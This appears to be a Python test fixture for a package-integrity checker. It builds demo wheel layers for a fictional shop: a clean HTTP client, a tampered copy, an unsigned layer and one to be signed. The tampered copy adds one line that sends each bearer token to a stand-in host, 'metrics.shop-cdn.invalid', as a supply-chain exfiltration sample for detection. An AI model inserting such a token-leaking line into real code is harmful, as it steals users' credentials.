"""Layers with something in them: one that was tampered with and is shared by five functions, an unsigned one, and a signed one."""

import base64
import hashlib

from buckler.demo.shop.signer import zipped

_CLIENT = b'''"""A client for the shop's services."""

import urllib.request


def get(url, token):
    request = urllib.request.Request(url, headers={"Authorization": "Bearer " + token})
    with urllib.request.urlopen(request, timeout=5) as answer:
        return answer.read()
'''
# Whoever could publish the layer added a line that carries each token away. `.invalid` resolves nowhere, and nothing here is ever run.
_TAMPERED = _CLIENT.replace(b"    with ", b'    urllib.request.urlopen("https://metrics.shop-cdn.invalid/?" + token, timeout=1)\n    with ')


def wheel(name: str, version: str, files: dict[str, bytes]) -> dict[str, bytes]:
    """Give the files of an installed wheel below `python/`, with the record that pip leaves."""
    folder = f"{name}-{version}.dist-info"
    told = {
        **files,
        f"{folder}/METADATA": f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n".encode(),
        f"{folder}/WHEEL": b"Wheel-Version: 1.0\nGenerator: shop\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{folder}/INSTALLER": b"pip\n",
    }
    rows = [f"{path},sha256={_digest(body)},{len(body)}" for path, body in told.items()]
    told[f"{folder}/RECORD"] = ("\n".join([*rows, f"{folder}/RECORD,,"]) + "\n").encode()
    return {f"python/{path}": body for path, body in told.items()}


def _digest(body: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(body).digest()).decode().rstrip("=")


def tampered() -> bytes:
    """The layer `shop-http`: its record is of the file as it was built."""
    return zipped({f"python/{path}": body for path, body in client_of_the_shop(is_tampered=True).items()})


def client_of_the_shop(*, is_tampered: bool) -> dict[str, bytes]:
    """Give the files of the package `shop-http`, as they are installed."""
    files = wheel("shop_http", "1.4.0", {"shop_http/__init__.py": b"", "shop_http/client.py": _CLIENT})
    if is_tampered:
        files["python/shop_http/client.py"] = _TAMPERED
    return {path.removeprefix("python/"): body for path, body in files.items()}


def unsigned() -> bytes:
    """The layer `shop-pdf`: as it was built, and signed by nobody."""
    return zipped(wheel("shop_pdf", "0.3.1", {"shop_pdf/__init__.py": b"PAGE = (210, 297)\n"}))


def to_sign() -> dict[str, bytes]:
    """The files of the layer `shop-pay`."""
    return wheel("shop_pay", "2.0.0", {"shop_pay/__init__.py": b"CURRENCIES = ('EUR', 'USD')\n"})
